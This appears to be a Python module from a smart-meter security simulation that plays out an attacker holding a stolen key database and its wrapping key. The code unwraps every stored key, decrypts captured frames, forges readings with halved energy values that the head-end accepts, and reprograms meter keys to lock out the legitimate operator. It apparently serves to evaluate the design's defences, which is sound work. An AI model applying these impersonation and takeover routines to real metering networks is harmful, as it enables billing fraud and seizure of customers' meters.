"""The stolen database plus the KEK (or a vault the attacker can use).

Every key unwrapped (expired ones too), every captured frame decrypted (no
forward secrecy), a forged reading accepted by a ``HeadEndEngine`` loaded
from the stolen store (impersonation), and a CCC key_transfer accepted by a
``Meter`` (takeover).
"""

from __future__ import annotations

import asyncio
import secrets
import tempfile
import time
from collections import Counter, defaultdict
from dataclasses import dataclass
from pathlib import Path
from typing import Any, NamedTuple

from cryptography.hazmat.primitives.keywrap import aes_key_unwrap, aes_key_wrap

from ami.protocol.association import (
    InitiateRequest,
    build_aarq,
    encode_initiate_request,
    parse_aare,
)
from ami.protocol.cipher import Suite0Cipher
from ami.protocol.errors import ProtocolError
from ami.protocol.frames import (
    GENERAL_DED_CIPHERING,
    GLO_INITIATE_REQUEST,
    open_apdu,
    parse_apdu,
    seal_apdu,
)
from ami.protocol.keys import (
    KeyId,
    KeyType,
    SecretBytes,
    encode_key_transfer,
)
from ami.protocol.messages import (
    Batch,
    KeyTransfer,
    KeyTransferAck,
    Reading,
    decode_message,
    encode_batch,
    encode_message,
)
from ami.protocol import suite1
from ami.protocol.association import MECHANISM_HLS_ECDSA
from ami.runtime.network import TSP_TITLE
from ami.security.vault import bind_to_row, unbind_from_row
from ami.tools.attack.store import Dump, steal
from ami.tools.attack.traffic import (
    Frame,
    KeyRing,
    TrafficResult,
    decrypt_traffic,
    headend_title_from,
    max_ic_seen,
)
from headend.store import StoredSession


class RawKekVault:
    """A stolen file KEK used as a vault (no file-mode checks: it is a copy)."""

    name = "stolen-kek"

    def __init__(self, kek: bytes) -> None:
        if len(kek) != 16:
            raise ValueError("a KEK file holds 16 bytes")
        self._kek = bytes(kek)

    def wrap(self, key: bytes, identity: bytes) -> bytes:
        return aes_key_wrap(self._kek, bind_to_row(bytes(key), identity))

    def unwrap(self, wrapped: bytes, identity: bytes) -> bytes:
        # With the KEK the row binding is no obstacle: unwrap, check, strip it.
        return unbind_from_row(aes_key_unwrap(self._kek, bytes(wrapped)), identity)

    def unwrap_many(self, wrapped: list[bytes], identities: list[bytes]) -> list[bytes]:
        return [self.unwrap(w, i) for w, i in zip(wrapped, identities, strict=True)]

    def unwrap_legacy_many(self, wrapped: list[bytes]) -> list[bytes]:
        return [aes_key_unwrap(self._kek, bytes(w)) for w in wrapped]

    def close(self) -> None:
        pass

    def __repr__(self) -> str:
        return "<RawKekVault>"


class KeyRef(NamedTuple):
    meter: str
    key_type: KeyType
    version: int


class UnwrappedKey(NamedTuple):
    state: str  # as stored: "new", "active", "expired"
    key: SecretBytes


class UnwrappedSession(NamedTuple):
    meter: str
    pending: bool  # offered in an AARQ, not yet confirmed
    key: SecretBytes


@dataclass(slots=True)
class Unwrapped:
    """Every key of the dump in clear: (meter, type, version) -> (state, key)."""

    keys: dict[KeyRef, UnwrappedKey]
    sessions: list[UnwrappedSession]
    failures: int

    def ring(self) -> KeyRing:
        ring = KeyRing()
        # Oldest version first, so the newest ends up first in the ring.
        for ref, k in sorted(self.keys.items(), key=lambda item: item[0].version):
            ring.add_global(ref.meter, ref.key_type, k.key, f"store:v{ref.version}:{k.state}",
                            superseded=k.state == "expired")
        for s in self.sessions:
            ring.add_session(s.meter, s.key, "store:pending-session" if s.pending else "store:session")
        return ring

    def session(self, meter: str) -> SecretBytes | None:
        """The confirmed session of ``meter`` (else the one offered in an AARQ)."""
        mine = [s for s in self.sessions if s.meter == meter]
        return min(mine, key=lambda s: s.pending).key if mine else None

    def active(self, meter: str, kt: KeyType) -> SecretBytes:
        refs = [ref for ref, k in self.keys.items()
                if ref.meter == meter and ref.key_type is kt and k.state == "active"]
        return self.keys[max(refs, key=lambda ref: ref.version)].key


def unwrap_dump(dump: Dump, vault: Any) -> Unwrapped:
    clear = iter(vault.unwrap_many(dump.wrapped_blobs, dump.wrapped_identities))  # the key rows', then the sessions'
    keys = {
        KeyRef(k.meter, KeyType(k.key_type), k.version): UnwrappedKey(k.state, SecretBytes(next(clear)))
        for k in dump.keys
    }
    sessions = [UnwrappedSession(s.meter, s.pending, SecretBytes(next(clear))) for s in dump.sessions]
    return Unwrapped(keys, sessions, 0)


async def forge_readings(dump: Dump, vault: Any, keys: Unwrapped, headend_title: bytes,
                         ic_seen: dict[str, int], now: float | None = None) -> dict[str, Any]:
    """Impersonate every meter that has a session: seal a reading under its
    current session (IC above anything seen) and feed it to a head-end engine
    loaded, like the real one at start-up, from the stolen store."""
    from ami.machines.headend import HeadEndEngine, Policy
    from headend.store import SqliteStore

    now = time.time() if now is None else now
    with tempfile.TemporaryDirectory(prefix="ami-forge-") as tmp:
        copy = steal(dump.path, Path(tmp))
        store = SqliteStore(copy, vault)
        await store.open()
        try:
            snapshot = await store.load()
        finally:
            await store.close()
    engine = HeadEndEngine(headend_title, Policy(), lambda: secrets.token_bytes(16))
    engine.load(snapshot, now)
    sessions: dict[str, StoredSession] = {}
    for row in sorted(dump.sessions, key=lambda s: not s.pending):  # the confirmed one wins
        sessions[row.meter] = row
    meters = {m.meter: m for m in dump.meters}
    per_segment: dict[str, list[tuple[str, bytes]]] = defaultdict(list)
    forged: dict[str, tuple] = {}
    for meter, row in sessions.items():
        stored = meters[meter]
        last = dump.last_readings.get(meter)
        seq = (stored.high_seq if stored.high_seq is not None else -1) + 1
        ts = (last.ts + 1800) if last else int(now)
        energy = (last.energy_wh // 2) if last else 0  # a halved index, stored as genuine
        reading = Reading(seq, ts, energy, 0, 2300)
        ic = max(row.rx_lowest, ic_seen.get(meter, -1) + 1)
        ak = keys.active(meter, KeyType.AK)
        frame = seal_apdu(Suite0Cipher(keys.session(meter), ak), GENERAL_DED_CIPHERING, stored.system_title, ic,
                          encode_message(reading))
        per_segment[stored.concentrator].append((meter, frame))
        forged[meter] = (seq, ts, energy)
    suite_of = {m.meter: m.suite for m in dump.meters}
    before = Counter(engine.counters)
    for n, (concentrator, items) in enumerate(sorted(per_segment.items())):
        engine.handle_batch(encode_batch(Batch(concentrator, 1_000_000 + n, tuple(items))), now, concentrator)
    effects = engine.drain()
    committed = {(meter, seq) for meter, seq, *_rest in effects.commit.readings}
    return {
        "meters_with_session": len(sessions),
        "forged_frames": sum(len(v) for v in per_segment.values()),
        "frames_accepted": engine.counters["frames_accepted"] - before["frames_accepted"],
        "readings_stored": engine.counters["readings_stored"] - before["readings_stored"],
        "forged_readings_in_commit": sum(1 for m, (seq, _ts, _e) in forged.items() if (m, seq) in committed),
        "frames_rejected": engine.counters["frames_rejected"] - before["frames_rejected"],
        "by_suite": {
            str(suite): {
                "meters": sum(1 for s in suite_of.values() if s == suite),
                "meters_with_stored_session": sum(1 for m in sessions if suite_of.get(m, 0) == suite),
                "forged_readings_in_commit": sum(
                    1 for m, (seq, _ts, _e) in forged.items() if suite_of.get(m, 0) == suite and (m, seq) in committed
                ),
            }
            for suite in sorted(set(suite_of.values()))
        },
        "note": "energy index halved in every forged reading; suite-1 session keys are never stored",
    }


def attacker_aarq(cc_lan: bytes, ak: bytes, headend_title: bytes, ic: int, session_key: bytes) -> bytes:
    initiate = encode_initiate_request(InitiateRequest(dedicated_key=session_key))
    apdu = seal_apdu(Suite0Cipher(cc_lan, ak), GLO_INITIATE_REQUEST, headend_title, ic, initiate)
    return build_aarq(headend_title, apdu)


def take_over(victim: Any, *, ccc: bytes, ak: bytes, cc_lan: bytes, headend_title: bytes, ic: int,
              now: float = 0.0) -> dict[str, Any]:
    """Associate with ``victim`` (a ``ami.machines.meter.Meter``) under the CC_LAN from
    the store and reprogram its CC_LAN under its CCC with the attacker's key."""
    if not victim.powered:
        victim.boot(now)
    session_key = secrets.token_bytes(16)
    out = victim.on_downlink(attacker_aarq(cc_lan, ak, headend_title, ic, session_key), now)
    aare = parse_aare(out.uplink[-1]) if out.uplink else None
    result: dict[str, Any] = {"aarq_accepted": bool(aare and aare.accepted)}
    if not result["aarq_accepted"]:
        result["rejected"] = list(out.rejected)
        return result
    mine = secrets.token_bytes(16)
    param = encode_key_transfer(ccc, [(KeyId.GLOBAL_UNICAST, mine)])
    session = Suite0Cipher(session_key, ak)
    frame = seal_apdu(session, GENERAL_DED_CIPHERING, headend_title, 0,
                      encode_message(KeyTransfer(0x7FFF_0001, "lan", param)))
    out = victim.on_downlink(frame, now + 1)
    acks = []
    for up in out.uplink:
        try:
            msg = decode_message(open_apdu(session, parse_apdu(up)))
        except ProtocolError:
            continue
        if isinstance(msg, KeyTransferAck):
            acks.append(msg)
    result["key_transfer_acked"] = any(a.ok for a in acks)
    result["meter_cc_lan_is_attackers"] = bytes(victim.keys.cc_lan) == mine
    # The legitimate head-end, with the CC_LAN it still holds, is now locked out...
    out = victim.on_downlink(attacker_aarq(cc_lan, ak, headend_title, ic + 1, secrets.token_bytes(16)), now + 2)
    legit = parse_aare(out.uplink[-1]) if out.uplink else None
    result["headend_locked_out"] = bool(legit and not legit.accepted)
    # ...while the attacker associates at will under its own CC_LAN.
    out = victim.on_downlink(attacker_aarq(mine, ak, headend_title, 0, secrets.token_bytes(16)), now + 3)
    again = parse_aare(out.uplink[-1]) if out.uplink else None
    result["attacker_reassociates"] = bool(again and again.accepted)
    return result


def meter_from_store(dump: Dump, keys: Unwrapped, meter: str, headend_title: bytes,
                     headend_sign_public: bytes | None = None) -> tuple[Any, int]:
    """A meter model holding the keys the store says it holds (the attacker's
    belief), with the strictest receive counter compatible with the store:
    it has seen every CC_LAN counter value the head-end ever reserved.

    A suite-1 meter also holds its own signing key (not in the store: the
    model gets a stand-in, which the attack never needs) and the head-end's
    public key (``headend_sign_public``, from network.json)."""
    from ami.machines.meter import LAN_RECV, Meter, MeterConfig, MeterKeys

    row = next(m for m in dump.meters if m.meter == meter)
    tx = max(k.tx_mark for k in dump.keys if k.meter == meter and k.key_type == "cc_lan" and k.state == "active")
    mk = MeterKeys(*(SecretBytes(keys.active(meter, kt)) for kt in
                     (KeyType.CCC, KeyType.AK, KeyType.CC_LAN, KeyType.CC_LOCALE)))
    config = MeterConfig(headend_title, TSP_TITLE, headend_sign_public=headend_sign_public, rng=secrets.token_bytes)
    signer = suite1.SoftwareSigner.from_scalar(suite1.scalar_from_rng(secrets.token_bytes)) if row.suite else None
    victim = Meter(meter, row.system_title, mk, config, concentrator=row.concentrator, marks={LAN_RECV: tx},
                   suite=row.suite, signer=signer)
    return victim, tx


def take_over_suite1(victim: Any, *, headend_title: bytes, ic: int, signer: suite1.Signer | None,
                     now: float = 0.0) -> dict[str, Any]:
    """A suite-1 meter: the store's CC_LAN buys nothing (it refuses a suite-0
    AARQ outright); an AARQ must be signed by the head-end's key.  ``signer``:
    what the attacker signs with (the head-end's own key if it was found, else
    a key of its own)."""
    if not victim.powered:
        victim.boot(now)
    attacker = signer or suite1.SoftwareSigner.from_scalar(suite1.scalar_from_rng(secrets.token_bytes))
    ephemeral = suite1.SoftwareEcdh.from_rng(secrets.token_bytes)
    ctos, offer = suite1.offer_association(headend_title, victim.title, ic, ephemeral, attacker)
    out = victim.on_downlink(build_aarq(headend_title, offer, ctos, MECHANISM_HLS_ECDSA), now)
    aare = parse_aare(out.uplink[-1]) if out.uplink else None
    return {"aarq_accepted": bool(aare and aare.accepted), "rejected": list(out.rejected),
            "signed_with_headend_key": signer is not None}


def takeover_all(dump: Dump, keys: Unwrapped, headend_title: bytes, *, headend_sign_public: bytes | None = None,
                 headend_signer: suite1.Signer | None = None) -> dict[str, Any]:
    results: list[tuple[int, dict[str, Any]]] = []
    for row in dump.meters:
        meter = row.meter
        victim, ic = meter_from_store(dump, keys, meter, headend_title, headend_sign_public)
        result = take_over(
            victim, ccc=keys.active(meter, KeyType.CCC), ak=keys.active(meter, KeyType.AK),
            cc_lan=keys.active(meter, KeyType.CC_LAN), headend_title=headend_title, ic=ic,
        )
        if row.suite and headend_sign_public is not None:
            # The store's keys were refused; now with a signed AARQ.
            signed = take_over_suite1(victim, headend_title=headend_title, ic=ic + 1, signer=headend_signer)
            result["suite1_signed_aarq_accepted"] = signed["aarq_accepted"]
        results.append((row.suite, result))

    def count(rs: list[dict[str, Any]]) -> dict[str, Any]:
        return {
            "meters": len(rs),
            "aarq_accepted": sum(r["aarq_accepted"] or bool(r.get("suite1_signed_aarq_accepted")) for r in rs),
            "key_transfer_acked": sum(bool(r.get("key_transfer_acked")) for r in rs),
            "cc_lan_replaced": sum(bool(r.get("meter_cc_lan_is_attackers")) for r in rs),
            "headend_locked_out": sum(bool(r.get("headend_locked_out")) for r in rs),
        }

    return {
        **count([r for _s, r in results]),
        "by_suite": {str(s): count([r for rs, r in results if rs == s]) for s in sorted({s for s, _r in results})},
        "headend_signing_key": "held by the attacker" if headend_signer is not None else "not held",
        "model": "ami.machines.meter.Meter built from the store's keys, LAN receive counter at the stored tx_mark",
    }


def with_vault(dump: Dump, vault: Any, frames: list[Frame], *, forge: bool = True,
               takeover: bool = True, headend_sign_public: bytes | None = None,
               headend_signer: suite1.Signer | None = None) -> tuple[dict[str, Any], TrafficResult, Unwrapped]:
    keys = unwrap_dump(dump, vault)
    ring = keys.ring()
    traffic = decrypt_traffic(frames, ring)
    by_state = Counter(k.state for k in keys.keys.values())
    report: dict[str, Any] = {
        "keys_unwrapped": len(keys.keys),
        "keys_unwrapped_by_state": dict(sorted(by_state.items())),
        "sessions_unwrapped": len(keys.sessions),
        "traffic": traffic.summary(),
        "traffic_by_suite": traffic.by_suite({m.meter: m.suite for m in dump.meters}),
        "sessions_unwrapped_by_suite": dict(sorted(Counter(
            str(m.suite) for s in keys.sessions for m in dump.meters if m.meter == s.meter).items())),
    }
    title = headend_title_from(frames)
    if forge:
        report["impersonation"] = asyncio.run(forge_readings(dump, vault, keys, title, max_ic_seen(frames)))
    if takeover:
        report["takeover"] = takeover_all(dump, keys, title, headend_sign_public=headend_sign_public,
                                          headend_signer=headend_signer)
    return report, traffic, keys
